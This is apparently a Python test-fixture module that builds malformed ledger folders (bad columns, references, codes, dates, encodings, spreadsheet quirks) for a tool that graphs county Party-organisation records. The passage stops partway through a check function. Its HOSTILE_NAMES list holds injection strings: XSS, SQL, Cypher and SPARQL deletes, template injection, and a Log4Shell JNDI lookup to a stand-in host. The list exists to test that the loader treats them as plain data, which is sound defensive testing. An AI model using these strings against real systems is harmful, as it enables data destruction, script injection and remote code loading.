"""The bad-input corpus, declared as data: each case writes a small ledger folder and lists the
problem rows it must produce (file, sheet, row, column, rule), worked out by hand.

A case's outcome is one of

* ``fail``   — ``build_graph`` raises ``ValidationFailed`` whose error rules are exactly the
  rules of ``expect`` and which contains at least the ``expect`` rows;
* ``load``   — the folder loads (possibly with the ``warnings`` listed) and ``check`` holds;
* ``refuse`` — a setting or mapping is wrong: a ``GraphkitError`` subclass (``refuse``) naming
  the file and the offending term.

Everything large or binary (the 100k-row sheet, the zip bomb, the fake workbooks) is generated
here at test time, never committed. ``tests/test_bad_input.py`` runs every case through the API
and the CLI (strict and ``--lenient``).
"""
from __future__ import annotations

import datetime as dt
import io
import random
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from collections.abc import Callable, Iterable

import pandas as pd

__all__ = ["Case", "P", "CASES", "Folder", "Sheet", "FORMULA_NAME", "base", "changed", "org_row", "roster_with", "ROSTER", "ROSTER_HEAD", "PAIRS", "PAIR_HEAD", "DIST", "DIST_HEAD",
           "HOSTILE_NAMES", "formula"]

# --------------------------------------------------------------------------------------------
# the valid base county every case starts from (names fictional)

ROSTER_F = "党组织名册.csv"
PAIR_F = "结对共建台账.csv"
DIST_F = "片区联建台账.csv"
UNIT_F = "两新组织名册.csv"
ACT_F = "联建活动台账.csv"

ROSTER_HEAD = ["党组织名称", "组织形式", "领域", "层级", "所属镇(街道)", "所在村(社区)", "上级党组织", "党员数",
               "分类定级", "定级年度", "是否软弱涣散"]
#: Excel/CSV row of ROSTER[i] is i + 2 (row 1 is the header).
ROSTER = [
    ["中池镇党委", "党委", "机关", "镇", "中池镇", "", "", "45", "一类", "2024", "否"],                       # 2
    ["中池镇机关党支部", "党支部", "机关", "镇", "中池镇", "", "中池镇党委", "20", "一类", "2024", "否"],      # 3
    ["青泥洞村党支部", "党支部", "农村", "村", "中池镇", "青泥洞村", "中池镇党委", "28", "一类", "2024", "否"],  # 4
    ["红岩村党支部", "党支部", "农村", "村", "中池镇", "红岩村", "中池镇党委", "15", "三类", "2024", "是"],     # 5
    ["金桥村党总支", "党总支", "农村", "村", "中池镇", "金桥村", "中池镇党委", "40", "二类", "2024", "否"],     # 6
    ["城关镇党委", "党委", "机关", "镇", "城关镇", "", "", "60", "一类", "2024", "否"],                       # 7
    ["李家台社区党支部", "党支部", "社区", "村", "城关镇", "李家台社区", "城关镇党委", "33", "三类", "2024", "否"],  # 8
    ["县农业农村局机关党支部", "党支部", "机关", "县", "", "", "", "25", "一类", "2024", "否"],               # 9
    ["县科协机关党支部", "党支部", "机关", "县", "", "", "", "12", "二类", "2024", "否"],                     # 10
    ["县司法局机关党支部", "党支部", "机关", "县", "", "", "", "18", "一类", "2024", "否"],                   # 11
]
PAIR_HEAD = ["帮扶党组织", "受援党组织", "结对形式", "开始日期", "结束日期"]
PAIRS = [
    ["青泥洞村党支部", "红岩村党支部", "强村带弱村", "2024-03-01", ""],                    # 2
    ["县农业农村局机关党支部", "李家台社区党支部", "机关联村", "2024年3月", "2025/2/28"],    # 3
]
DIST_HEAD = ["片区名称", "单位名称", "角色", "轮值月份", "联片指导领导", "加入日期", "退出日期"]
DIST = [
    ["第一片区", "县农业农村局机关党支部", "牵头单位", "1", "张三", "2024-01-01", ""],  # 2
    ["第一片区", "县科协机关党支部", "轮值单位", "2", "张三", "2024-01-01", ""],        # 3
    ["第一片区", "县司法局机关党支部", "成员单位", "3", "张三", "2024-01-01", ""],      # 4
]
UNIT_HEAD = ["单位名称", "类型", "所属镇(街道)", "是否建立党组织", "党组织名称", "联系党组织", "党建指导员", "从业人员数"]
UNITS = [["天成丝业有限公司", "非公企业", "中池镇", "否", "", "中池镇党委", "王五", "120"]]  # 2
ACT_HEAD = ["活动编号", "活动日期", "活动名称", "活动类型", "主办单位", "参与单位", "所属片区"]
ACTS = [["A001", "2024-01-15", "一月主题党日", "主题党日", "县农业农村局机关党支部", "县科协机关党支部、县司法局机关党支部", ""]]

#: Names that must load as plain data and never become markup, Cypher, SPARQL or a template.
HOSTILE_NAMES = [
    '<script>alert("x")</script>党支部',
    "<img src=x onerror=alert(1)>党支部",
    "'); DROP TABLE orgs; --党支部",
    '"}) MATCH (n) DETACH DELETE n //党支部',
    "`反引号`} RETURN 1 //党支部",
    "${jndi:ldap://x/a}党支部",
    "{{7*7}}{% raw %}党支部",
    "' } ; DELETE WHERE { ?s ?p ?o } #党支部",
    "<![CDATA[x]]>&amp;&lt;党支部",
    '\\" OR 1=1 --党支部',
]


@dataclass
class Formula:
    """An xlsx formula cell with the value Excel cached for it (None: no cached value)."""

    formula: str
    cached: Any = None


def formula(f: str, cached: Any = None) -> Formula:
    return Formula(f, cached)


@dataclass
class Sheet:
    name: str
    rows: list[list[Any]]
    hidden: bool = False
    merges: list[tuple[int, int, int, int]] = field(default_factory=list)  # 0-based (r0, c0, r1, c1)


class Folder:
    """Writes ledger files into one case folder."""

    def __init__(self, root: Path) -> None:
        self.root = root
        root.mkdir(parents=True, exist_ok=True)

    def csv(self, name: str, head: list[str] | None, rows: Iterable[list[Any]], *, encoding: str = "utf-8",
            bom: bool = False) -> Path:
        buf = io.StringIO()
        frame = pd.DataFrame([list(r) for r in rows])
        if head is not None:
            frame = pd.concat([pd.DataFrame([head]), frame], ignore_index=True)
        frame.to_csv(buf, index=False, header=False, lineterminator="\n")
        data = buf.getvalue().encode(encoding)
        return self.bytes(name, (b"\xef\xbb\xbf" if bom else b"") + data)

    def bytes(self, name: str, data: bytes) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def text(self, name: str, text: str, encoding: str = "utf-8") -> Path:
        return self.bytes(name, text.encode(encoding))

    def xlsx(self, name: str, sheets: list[Sheet]) -> Path:
        import xlsxwriter

        path = self.root / name
        wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False})
        date_format = wb.add_format({"num_format": "yyyy-mm-dd"})
        for sh in sheets:
            ws = wb.add_worksheet(sh.name)
            for r, row in enumerate(sh.rows):
                for c, v in enumerate(row):
                    if isinstance(v, Formula):
                        ws.write_formula(r, c, v.formula, None, v.cached if v.cached is not None else "")
                    elif isinstance(v, (dt.date, dt.datetime)):
                        ws.write_datetime(r, c, v if isinstance(v, dt.datetime) else dt.datetime(v.year, v.month, v.day),
                                          date_format)
                    elif v is None or v == "":
                        continue
                    else:
                        ws.write(r, c, v)
            for r0, c0, r1, c1 in sh.merges:
                v = sh.rows[r0][c0] if r0 < len(sh.rows) and c0 < len(sh.rows[r0]) else ""
                ws.merge_range(r0, c0, r1, c1, v)
            if sh.hidden:
                ws.hide()
        wb.close()
        return path


def changed(rows: list[list[Any]], head: list[str], changes: dict[tuple[int, str], Any]) -> list[list[Any]]:
    """Copy of ``rows`` with cells changed: ``{(excel_row, header): value}`` (row 2 = rows[0])."""
    out = [list(r) for r in rows]
    for (row, col), value in changes.items():
        out[row - 2][head.index(col)] = value
    return out


def base(d: Path, *, roster: list[list[Any]] | None = None, pairs: list[list[Any]] | None = None,
         dist: list[list[Any]] | None = None, units: list[list[Any]] | None = None,
         acts: list[list[Any]] | None = None, config: str | None = "county: 测试县\n") -> Folder:
    """Write the base county: the roster always, the other ledgers when given."""
    f = Folder(d)
    if config is not None:
        f.text("graphkit.yaml", config)
    f.csv(ROSTER_F, ROSTER_HEAD, ROSTER if roster is None else roster)
    if pairs is not None:
        f.csv(PAIR_F, PAIR_HEAD, pairs)
    if dist is not None:
        f.csv(DIST_F, DIST_HEAD, dist)
    if units is not None:
        f.csv(UNIT_F, UNIT_HEAD, units)
    if acts is not None:
        f.csv(ACT_F, ACT_HEAD, acts)
    return f


def roster_with(changes: dict[tuple[int, str], Any] | None = None, extra: Iterable[list[Any]] = ()) -> list[list[Any]]:
    return changed(ROSTER, ROSTER_HEAD, changes or {}) + [list(r) for r in extra]


def org_row(name: str, **cells: Any) -> list[Any]:
    """A roster row for a village branch of 中池镇, with some cells replaced by header."""
    row = [name, "党支部", "农村", "村", "中池镇", "", "中池镇党委", "10", "二类", "2024", "否"]
    for k, v in cells.items():
        row[ROSTER_HEAD.index(k)] = v
    return row


# --------------------------------------------------------------------------------------------
# the case declarations


@dataclass(frozen=True)
class P:
    """One expected problem row (None = not checked)."""

    rule: str
    file: str
    row: int | None = None
    column: str | None = None
    sheet: str = ""
    contains: tuple[str, ...] = ()   # fragments of message_zh + message_en + value
    severity: str = "error"


@dataclass
class Case:
    id: str
    what: str                                   # one line for docs/reliability.md
    make: Callable[[Path], None]
    outcome: str = "fail"                       # fail | load | refuse
    expect: list[P] = field(default_factory=list)
    warnings: list[P] = field(default_factory=list)
    check: Callable[[Any], None] | None = None  # on the Graph (load) or the lenient Graph (fail)
    lenient: dict[str, int] = field(default_factory=dict)  # record counts a --lenient build keeps
    refuse: str = ""                            # GraphkitError subclass name for outcome == "refuse"
    refuse_contains: tuple[str, ...] = ()
    slow: bool = False


CASES: list[Case] = []


def case(id: str, what: str, **kw: Any) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    def deco(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        CASES.append(Case(id=id, what=what, make=fn, **kw))
        return fn
    return deco


# ---- columns ---------------------------------------------------------------------------------

@case("missing_required_column", "roster without its 党组织名称 column",
      expect=[P("missing_column", ROSTER_F, 1, "党组织名称", contains=("党组织名称", "组织名称"))],
      lenient={"Organization": 0})
def _(d: Path) -> None:
    f = base(d, roster=[])
    f.csv(ROSTER_F, ROSTER_HEAD[1:], [r[1:] for r in ROSTER])


@case("renamed_column", "pairing ledger whose 帮扶党组织 header was renamed to 帮扶方 (no alias matches)",
      expect=[P("missing_column", PAIR_F, 1, "帮扶党组织")], lenient={"Organization": 10, "Pairing": 0})
def _(d: Path) -> None:
    f = base(d, pairs=PAIRS)
    f.csv(PAIR_F, ["帮扶方", *PAIR_HEAD[1:]], PAIRS)


@case("duplicated_column", "roster with both 党组织名称 and 组织名称 (two headers meaning one column)",
      expect=[P("duplicate_column", ROSTER_F, 1, "组织名称", contains=("党组织名称",))],
      lenient={"Organization": 10})
def _(d: Path) -> None:
    f = base(d)
    f.csv(ROSTER_F, [*ROSTER_HEAD, "组织名称"], [[*r, r[0]] for r in ROSTER])


# ---- duplicates, references, names -----------------------------------------------------------

@case("duplicate_org_fullwidth", "one org listed twice, once with a full-width digit (城关镇第1小学 / 第１小学)",
      expect=[P("duplicate_id", ROSTER_F, 13, "党组织名称", contains=("第12行",))], lenient={"Organization": 11})
def _(d: Path) -> None:
    base(d, roster=roster_with(extra=[org_row("城关镇第1小学党支部", 领域="学校"), org_row("城关镇第１小学党支部", 领域="学校")]))


@case("pairing_absent_org", "pairing names 红言村党支部, absent from the roster (typo of 红岩村党支部)",
      expect=[P("unresolved_ref", PAIR_F, 2, "受援党组织", contains=("红言村党支部", "红岩村党支部"))],
      lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "受援党组织"): "红言村党支部"}))


@case("ambiguous_name", "pairing names 青石村 while the roster has both 青石村党支部 and 青石村党总支",
      expect=[P("ambiguous_ref", PAIR_F, 2, "受援党组织", contains=("青石村党支部", "青石村党总支"))],
      lenient={"Pairing": 1, "Organization": 12})
def _(d: Path) -> None:
    base(d, roster=roster_with(extra=[org_row("青石村党支部"), org_row("青石村党总支", 组织形式="党总支")]),
         pairs=changed(PAIRS, PAIR_HEAD, {(2, "受援党组织"): "青石村"}))


@case("self_pair_same", "a weak org paired with itself",
      expect=[P("self_reference", PAIR_F, 2, "受援党组织")], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "受援党组织"): "青泥洞村党支部"}))


@case("self_pair_two_spellings", "an org paired with itself written two ways (红岩村党支部 / 中共红岩村支部委员会)",
      expect=[P("self_reference", PAIR_F, 2, "受援党组织", contains=("中共红岩村支部委员会",))], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "帮扶党组织"): "红岩村党支部", (2, "受援党组织"): "中共红岩村支部委员会"}))


@case("duplicate_pairing_rows", "the same pairing row entered twice",
      expect=[P("duplicate_id", PAIR_F, 4, "帮扶党组织", contains=("第2行",))], lenient={"Pairing": 2})
def _(d: Path) -> None:
    base(d, pairs=[*PAIRS, PAIRS[0]])


@case("duplicate_pairing_spellings", "the same pairing twice, written with other spellings and date format",
      expect=[P("duplicate_id", PAIR_F, 4, "帮扶党组织")], lenient={"Pairing": 2})
def _(d: Path) -> None:
    base(d, pairs=[*PAIRS, ["青泥洞村党支部委员会", "红岩村　党支部", "以强带弱", "2024/3/1", ""]])


@case("membership_unknown_org", "a district member absent from the roster",
      expect=[P("unresolved_ref", DIST_F, 3, "单位名称", contains=("县不存在局党支部",))], lenient={"Membership": 2})
def _(d: Path) -> None:
    base(d, dist=changed(DIST, DIST_HEAD, {(3, "单位名称"): "县不存在局党支部"}))


@case("unresolvable_town_unit", "a private firm in a town (火星镇) that no ledger knows",
      expect=[P("unresolved_ref", UNIT_F, 2, "所属镇(街道)", contains=("火星镇",))], lenient={"Unit": 1})
def _(d: Path) -> None:
    base(d, units=changed(UNITS, UNIT_HEAD, {(2, "所属镇(街道)"): "火星镇"}))


@case("participant_unresolved", "an activity whose participant list names an unknown org",
      expect=[P("unresolved_ref", ACT_F, 2, "参与单位", contains=("不存在党支部",))],
      lenient={"Activity": 1, "Participation": 1})
def _(d: Path) -> None:
    base(d, acts=changed(ACTS, ACT_HEAD, {(2, "参与单位"): "县科协机关党支部、不存在党支部"}))


# ---- codes ------------------------------------------------------------------------------------

@case("unknown_category", "分类定级 = 四类",
      expect=[P("unknown_code", ROSTER_F, 5, "分类定级", contains=("四类", "一类"))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(5, "分类定级"): "四类"}))


@case("unknown_form_roster", "组织形式 = 党小组 (not an org form)",
      expect=[P("unknown_code", ROSTER_F, 4, "组织形式", contains=("党小组",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(4, "组织形式"): "党小组"}))


@case("unknown_form_pairing", "结对形式 = 手拉手 (not a pairing form)",
      expect=[P("unknown_code", PAIR_F, 3, "结对形式", contains=("手拉手", "机关联村"))], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(3, "结对形式"): "手拉手"}))


@case("unknown_sector", "领域 = 外星",
      expect=[P("unknown_code", ROSTER_F, 6, "领域", contains=("外星",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(6, "领域"): "外星"}))


@case("unknown_role", "district role 打酱油",
      expect=[P("unknown_code", DIST_F, 4, "角色", contains=("打酱油",))], lenient={"Membership": 2})
def _(d: Path) -> None:
    base(d, dist=changed(DIST, DIST_HEAD, {(4, "角色"): "打酱油"}))


@case("unknown_activity_type", "activity type 聚餐",
      expect=[P("unknown_code", ACT_F, 2, "活动类型", contains=("聚餐",))], lenient={"Activity": 0})
def _(d: Path) -> None:
    base(d, acts=changed(ACTS, ACT_HEAD, {(2, "活动类型"): "聚餐"}))


# ---- values -----------------------------------------------------------------------------------

@case("date_month_13", "开始日期 = 2024年13月",
      expect=[P("bad_date", PAIR_F, 2, "开始日期", contains=("2024年13月",))], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "开始日期"): "2024年13月"}))


@case("date_feb_30", "开始日期 = 2024-02-30",
      expect=[P("bad_date", PAIR_F, 3, "开始日期", contains=("2024-02-30",))], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(3, "开始日期"): "2024-02-30"}))


@case("date_garbage", "结束日期 = 明年春天",
      expect=[P("bad_date", PAIR_F, 2, "结束日期", contains=("明年春天",))], lenient={"Pairing": 2})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "结束日期"): "明年春天"}))


@case("interval_pairing", "pairing ends (2023/12/31) before it starts (2024年3月)",
      expect=[P("interval_order", PAIR_F, 3, "结束日期", contains=("2024-03-01", "2023-12-31"))], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(3, "结束日期"): "2023/12/31"}))


@case("interval_membership", "district member leaves (2023-06-30) before joining (2024-01-01)",
      expect=[P("interval_order", DIST_F, 3, "退出日期")], lenient={"Membership": 2})
def _(d: Path) -> None:
    base(d, dist=changed(DIST, DIST_HEAD, {(3, "退出日期"): "2023-06-30"}))


@case("bad_integer", "党员数 = 很多",
      expect=[P("bad_integer", ROSTER_F, 4, "党员数", contains=("很多",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(4, "党员数"): "很多"}))


@case("negative_members", "党员数 = -5",
      expect=[P("out_of_range", ROSTER_F, 6, "党员数", contains=("-5",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(6, "党员数"): "-5"}))


@case("year_out_of_range", "定级年度 = 1880",
      expect=[P("out_of_range", ROSTER_F, 7, "定级年度", contains=("1880",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(7, "定级年度"): "1880"}))


@case("host_month_13", "轮值月份 = 13",
      expect=[P("out_of_range", DIST_F, 4, "轮值月份", contains=("13",))], lenient={"Membership": 3})
def _(d: Path) -> None:
    base(d, dist=changed(DIST, DIST_HEAD, {(4, "轮值月份"): "13"}))


@case("bad_boolean", "是否软弱涣散 = 也许",
      expect=[P("bad_boolean", ROSTER_F, 5, "是否软弱涣散", contains=("也许",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(5, "是否软弱涣散"): "也许"}))


@case("too_long_name", "a 303-character org name (limit 200)",
      expect=[P("too_long", ROSTER_F, 12, "党组织名称", contains=("200",))], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with(extra=[org_row("很长" * 150 + "党支部")]))


@case("required_blank", "pairing 开始日期 left blank",
      expect=[P("required", PAIR_F, 3, "开始日期")], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(3, "开始日期"): ""}))


@case("required_blank_name", "a roster row with every cell but the name filled",
      expect=[P("required", ROSTER_F, 12, "党组织名称")], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with(extra=[org_row("")]))


@case("required_whitespace", "pairing strong side is only spaces and a zero-width space",
      expect=[P("required", PAIR_F, 2, "帮扶党组织")], lenient={"Pairing": 1})
def _(d: Path) -> None:
    base(d, pairs=changed(PAIRS, PAIR_HEAD, {(2, "帮扶党组织"): "  \u3000\u200b "}))


@case("conflicting_guides", "one district with two guiding leaders (张三 / 李四)",
      expect=[P("conflicting_values", DIST_F, 3, "联片指导领导", contains=("张三", "李四"))],
      lenient={"Collaboration": 1, "Membership": 3})
def _(d: Path) -> None:
    base(d, dist=changed(DIST, DIST_HEAD, {(3, "联片指导领导"): "李四"}))


# ---- 隶属 cycles ---------------------------------------------------------------------------------

@case("cycle_two", "两个党组织互为上级 (A→B→A)",
      expect=[P("cycle", ROSTER_F, 2, "上级党组织"), P("cycle", ROSTER_F, 3, "上级党组织")], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(2, "上级党组织"): "中池镇机关党支部"}))


@case("cycle_three", "a 3-cycle of parents (城关镇党委 → 李家台社区 → 县司法局 → 城关镇党委)",
      expect=[P("cycle", ROSTER_F, r, "上级党组织") for r in (7, 8, 11)], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(7, "上级党组织"): "李家台社区党支部", (8, "上级党组织"): "县司法局机关党支部",
                                (11, "上级党组织"): "城关镇党委"}))


@case("self_parent", "an org whose parent is itself",
      expect=[P("cycle", ROSTER_F, 9, "上级党组织")], lenient={"Organization": 10})
def _(d: Path) -> None:
    base(d, roster=roster_with({(9, "上级党组织"): "县农业农村局机关党支部"}))


# ---- encodings ----------------------------------------------------------------------------------

def _roster_csv_text(rows: list[list[Any]] = ROSTER) -> str:
    return "\n".join(",".join(r) for r in [ROSTER_HEAD, *rows]) + "\n"


@case("mixed_encodings", "one CSV whose first lines are UTF-8 and later lines GBK",
      expect=[P("encoding", ROSTER_F, None, None, contains=("UTF-8", "第 6 行"))], lenient={"Organization": 0})
def _(d: Path) -> None:
    f = base(d)
    lines = _roster_csv_text().splitlines(keepends=True)
    f.bytes(ROSTER_F, b"".join(ln.encode("utf-8") for ln in lines[:5]) + b"".join(ln.encode("gbk") for ln in lines[5:]))


@case("gbk_declared_utf8", "a GBK file declared as UTF-8 in graphkit.yaml",
      expect=[P("encoding", ROSTER_F, None, None, contains=("utf-8", "GB"))], lenient={"Organization": 0})
def _(d: Path) -> None:
    f = base(d, config="county: 测试县\nfiles:\n  党组织名册.csv: {encoding: utf-8}\n")
    f.bytes(ROSTER_F, _roster_csv_text().encode("gbk"))


def _check_gb18030(g: Any) -> None:
    names = set(g.orgs["name"])
    assert {"青泥洞村党支部", "䶮村党支部"} <= names, names


@case("gb18030_undeclared", "a GB18030 CSV (with a character outside GBK) and no declaration: detected, loads",
      outcome="load", check=_check_gb18030)
def _(d: Path) -> None:
    f = base(d)
    f.bytes(ROSTER_F, _roster_csv_text([*ROSTER, org_row("䶮村党支部")]).encode("gb18030"))


def _check_base(g: Any) -> None:
    assert g.count("Organization") == 10, g.count("Organization")
    assert "青泥洞村党支部" in set(g.orgs["name"])


@case("utf16_tab_text", "Excel's 'Unicode text' export: UTF-16 with BOM, tab-separated, named .txt",
      outcome="load", check=_check_base)
def _(d: Path) -> None:
    f = Folder(d)
    f.text("graphkit.yaml", "county: 测试县\n")
    text = "\r\n".join("\t".join(r) for r in [ROSTER_HEAD, *ROSTER]) + "\r\n"
    f.bytes("党组织名册.txt", text.encode("utf-16"))


@case("binary_csv", "a .csv holding binary garbage",
      expect=[P("unreadable_file", PAIR_F, None, None, contains=("二进制",))], lenient={"Pairing": 0})
def _(d: Path) -> None:
    f = base(d)
    rng = random.Random(7)
    f.bytes(PAIR_F, bytes(rng.randrange(256) for _ in range(5000)))


@case("unbalanced_quote", "a CSV with an unbalanced quote that swallows the rest of the file",
      expect=[P("unreadable_file", PAIR_F, None, None, contains=("CSV",))], lenient={"Pairing": 0})
def _(d: Path) -> None:
    f = base(d)
    f.text(PAIR_F, ",".join(PAIR_HEAD) + '\n"青泥洞村党支部,红岩村党支部,强村带弱村,2024-03-01,\n县农业农村局机关党支部,李家台社区党支部,机关联村,2024-03-01,\n')


# ---- spreadsheet structure ------------------------------------------------------------------------

def _check_merged_district(g: Any) -> None:
    mem = g.tables["Membership"]
    assert len(mem) == 3 and mem["organization"].nunique() == 1
    coll = g.tables["Collaboration"]
    assert coll["name"].tolist() == ["第一片区"]
    assert g.names("Person")[coll["guide"].iat[0]] == "张三"


@case("merged_cells_vertical", "片区名称 and 联片指导领导 merged vertically over the member rows",
      outcome="load", check=_check_merged_district)
def _(d: Path) -> None:
    f = base(d)
    rows = [DIST_HEAD, *[[*r] for r in DIST]]
    for r in rows[2:]:
        r[0] = r[4] = ""
    f.xlsx("片区联建台账.xlsx", [Sheet("第一片区", rows, merges=[(1, 0, 3, 0), (1, 4, 3, 4)])])


def _check_merged_header(g: Any) -> None:
    pr = g.tables["Pairing"]
    assert len(pr) == 2
    names = g.names("Organization")
    assert set(names[pr["strong"]]) == {"青泥洞村党支部", "县农业农村局机关党支部"}
    assert sorted(pr["src_row"]) == [3, 4]


@case("merged_header", "a two-row header: 结对单位 merged over 强/弱, the others merged vertically",
      outcome="load", check=_check_merged_header)
def _(d: Path) -> None:
    f = base(d)
    rows = [["结对单位", "", "结对形式", "开始日期", "结束日期"], ["强", "弱", "", "", ""], *PAIRS]
    f.xlsx("结对共建台账.xlsx", [Sheet("结对", rows, merges=[(0, 0, 0, 1), (0, 2, 1, 2), (0, 3, 1, 3), (0, 4, 1, 4)])])


def _check_formulas(g: Any) -> None:
    o = g.orgs.set_index("name")
    assert o.at["青泥洞村党支部", "members"] == 28
    assert o.at["红岩村党支部", "category"] == "3"
    assert o.at["中池镇党委", "members"] == 45


@case("formulas_cached", "党员数 and 分类定级 as formulas with the values Excel cached",
      outcome="load", check=_check_formulas)
def _(d: Path) -> None:
    f = base(d)
    rows: list[list[Any]] = [ROSTER_HEAD]
    for i, r in enumerate(ROSTER, start=2):
        r = list(r)
        r[7] = formula(f"=20+{int(r[7]) - 20}", int(r[7]))
        r[8] = formula(f'=IF(H{i}>0,"{r[8]}","")', r[8])
        rows.append(r)
    (d / ROSTER_F).unlink()
    f.xlsx(XL_ROSTER, [Sheet("名册", rows)])


XL_ROSTER = "党组织名册.xlsx"


@case("formula_errors", "formula error values: 党员数 = #N/A and a name = #REF!",
      expect=[P("formula_error", XL_ROSTER, 4, "党员数", sheet="名册", contains=("#N/A",)),
              P("formula_error", XL_ROSTER, 12, "党组织名称", sheet="名册", contains=("#REF!",))],
      lenient={"Organization": 10})
def _(d: Path) -> None:
    f = base(d)
    (d / ROSTER_F).unlink()
    rows: list[list[Any]] = [ROSTER_HEAD, *[list(r) for r in ROSTER], org_row("")]
    rows[3][7] = formula("=VLOOKUP(A4,Z:Z,2,0)", "#N/A")
    rows[11][0] = formula("=#REF!&\"党支部\"", "#REF!")
    f.xlsx(XL_ROSTER, [Sheet("名册", rows)])


@case("formula_not_calculated", "a workbook written by a program: formulas with no cached value",
      expect=[P("formula_uncalculated", XL_ROSTER, 5, "党员数", sheet="Sheet", contains=("=10+5",))],
      lenient={"Organization": 10})
def _(d: Path) -> None:
    import openpyxl

    base(d)
    (d / ROSTER_F).unlink()
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(ROSTER_HEAD)
    for r in ROSTER:
        ws.append(r)
    ws["H5"] = "=10+5"
    wb.save(d / XL_ROSTER)


@case("hidden_sheet", "a hidden sheet full of garbage next to the real roster (skipped with a warning)",
      outcome="load", check=_check_base, warnings=[P("hidden_sheet", XL_ROSTER, None, None, sheet="旧名册", severity="warning")])
def _(d: Path) -> None:
    f = base(d)
    (d / ROSTER_F).unlink()
    junk = [ROSTER_HEAD, *[["垃圾党支部", "不存在", "外星", "银河", "", "", "无人", "很多", "九类", "公元前", "也许"]] * 3]
    f.xlsx(XL_ROSTER, [Sheet("名册", [ROSTER_HEAD, *ROSTER]), Sheet("旧名册", junk, hidden=True)])


@case("empty_sheet", "a workbook with an extra empty sheet (warning)",
      outcome="load", check=_check_base, warnings=[P("empty_sheet", XL_ROSTER, None, None, sheet="Sheet2", severity="warning")])
def _(d: Path) -> None:
    f = base(d)
    (d / ROSTER_F).unlink()
    f.xlsx(XL_ROSTER, [Sheet("名册", [ROSTER_HEAD, *ROSTER]), Sheet("Sheet2", [])])


@case("empty_file", "a 0-byte pairing CSV (warning)",
      outcome="load", check=_check_base, warnings=[P("empty_sheet", PAIR_F, None, None, severity="warning")])
def _(d: Path) -> None:
    base(d).bytes(PAIR_F, b"")


def _check_no_pairs(g: Any) -> None:
    _check_base(g)
    assert g.count("Pairing") == 0


@case("header_only", "a pairing CSV with only its header row (a warning, no records)",
      outcome="load", check=_check_no_pairs, warnings=[P("no_data_rows", PAIR_F, 1, None, severity="warning")])
def _(d: Path) -> None:
    base(d, pairs=[])


@case("unrecognized_sheet", "a workbook with a 填表说明 sheet that fits no layout (warning)",
      outcome="load", check=_check_base,
      warnings=[P("unrecognized_sheet", XL_ROSTER, None, None, sheet="填表说明", severity="warning")])
def _(d: Path) -> None:
    f = base(d)
    (d / ROSTER_F).unlink()
    f.xlsx(XL_ROSTER, [Sheet("名册", [ROSTER_HEAD, *ROSTER]),
                       Sheet("填表说明", [["填表说明"], ["1. 党组织名称请写全称"], ["2. 分类定级填一类、二类或三类"]])])


@case("unknown_file_types", "Word, PDF, image and JSON files beside the ledgers are ignored",
      outcome="load", check=_check_base)
def _(d: Path) -> None:
    f = base(d)
    f.bytes("通知.docx", b"PK\x03\x04not really")
    f.bytes("照片.jpg", b"\xff\xd8\xff\xe0" + bytes(100))
    f.bytes("说明.pdf", b"%PDF-1.4\n")
    f.text("导出.json", '{"a": 1}')
    f.text("~$党组织名册.xlsx", "lock file")


def _check_newline(g: Any) -> None:
    assert g.count("Pairing") == 2
    assert "青泥洞村 党支部" in set(g.orgs["name"])


@case("newline_in_cell", "a quoted CSV cell with a line break inside a name (Alt+Enter in Excel)",
      outcome="load", check=_check_newline)
def _(d: Path) -> None:
    base(d, roster=roster_with({(4, "党组织名称"): "青泥洞村\n党支部"}), pairs=PAIRS)


# ---- names: width, invisible characters, hostile text ----------------------------------------------

def _check_zero_width(g: Any) -> None:
    names = set(g.orgs["name"])
    assert "红岩村党支部" in names and "县科协(机关)党支部" in names, names
    assert g.count("Pairing") == 2
    assert not any("\u200b" in n or "\ufeff" in n for n in names)


@case("zero_width_fullwidth", "zero-width and full-width characters in names: normalized, and references resolve",
      outcome="load", check=_check_zero_width)
def _(d: Path) -> None:
    base(d, roster=roster_with({(5, "党组织名称"): "红岩村\u200b党支部\ufeff", (10, "党组织名称"): "县科协（机关）党支部",
                                (4, "党组织名称"): "青泥洞村党支部\u3000"}),
         pairs=changed(PAIRS, PAIR_HEAD, {(2, "帮扶党组织"): "青泥洞村 党支部",
                                          (2, "受援党组织"): "红岩村党支部"}))


def _check_hostile(g: Any) -> None:
    names = set(g.orgs["name"])
    missing = [n for n in HOSTILE_NAMES if n not in names]
    assert not missing, missing
    pr = g.tables["Pairing"]
